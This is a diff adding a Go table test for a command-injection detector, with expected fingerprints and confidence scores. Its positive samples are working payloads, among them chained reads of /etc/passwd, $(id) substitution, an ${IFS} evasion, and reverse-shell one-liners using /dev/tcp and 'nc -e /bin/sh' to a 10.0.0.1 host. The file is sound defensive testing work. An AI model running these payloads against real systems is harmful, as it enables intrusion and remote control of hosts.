@@ -0,0 +1,52 @@
+package main
+
+import "testing"
+
+// detectorCase is one row of a pattern detector's table test: the expected
+// fingerprint ("" for no finding) and confidence.
+type detectorCase struct {
+	value string
+	fp    string
+	conf  int
+}
+
+func runDetectorCases(t *testing.T, detect func(string) (detection, bool), tests []detectorCase) {
+	t.Helper()
+	for _, tt := range tests {
+		d, ok := detect(tt.value)
+		if ok != (tt.fp != "") || d.fingerprint != tt.fp || d.confidence != tt.conf {
+			t.Errorf("%q: got %q %d (%v), want %q %d", tt.value, d.fingerprint, d.confidence, ok, tt.fp, tt.conf)
+		}
+	}
+}
+
+func TestDetectCmdi(t *testing.T) {
+	runDetectorCases(t, detectCmdi, []detectorCase{
+		{"; cat /etc/passwd", "cmdi-chain-word", 75},
+		{"a && whoami", "cmdi-chain", 85},
+		{"127.0.0.1\nwhoami", "cmdi-chain", 85},
+		{"$(id)", "cmdi-substitution", 90},
+		{"`id`", "cmdi-backtick", 85},
+		{"x;${IFS}cat${IFS}/etc/passwd", "cmdi-ifs,cmdi-chain-word", 95},
+		{"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "cmdi-devtcp", 95},
+		{"| nc -e /bin/sh 10.0.0.1 4444", "cmdi-chain,cmdi-shell-path", 85},
+		{"cmd.exe /c dir", "cmdi-shell-path", 70},
+		{"salt; pepper", "", 0},
+		{"Tom & Jerry", "", 0},
+		{"Ben & Jerry's; echo chamber", "", 0},
+		{"sleep well; eat well", "", 0},
+		{`C:\Program Files\app`, "", 0},
+		{"a > b", "", 0},
+	})
+}
+
+func TestPatternDetection(t *testing.T) {
+	confidence := map[string]int{"a": 50, "b": 90, "c": 50}
+	d, ok := patternDetection(map[string]bool{"a": true, "b": true, "c": true}, confidence)
+	if !ok || d.fingerprint != "b,a,c" || d.confidence != 90 {
+		t.Errorf("got %q %d (%v)", d.fingerprint, d.confidence, ok)
+	}
+	if _, ok := patternDetection(map[string]bool{}, confidence); ok {
+		t.Error("empty set detected")
+	}
+}